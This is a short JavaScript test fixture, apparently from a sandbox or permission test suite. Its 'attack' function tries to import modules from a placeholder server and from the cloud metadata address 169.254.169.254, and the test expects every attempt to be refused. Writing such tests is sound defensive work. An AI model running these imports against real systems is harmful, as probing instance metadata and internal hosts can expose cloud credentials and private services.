// hostile 5: a literal import from a loopback or metadata address
// ends: nothing

export async function attack() {
  const loot = [];
  for (
    const one of [
      () => import("@@SERVER@@/x.js"),
      () => import("@@SERVER@@/x.json", { with: { type: "json" } }),
      () => import("@@SERVER@@/x.txt", { with: { type: "text" } }),
      () => import("http://169.254.169.254/latest/meta-data/"),
    ]
  ) {
    try {
      loot.push(Object.keys(await one()));
    } catch { /* refused */ }
  }
  return loot;
}
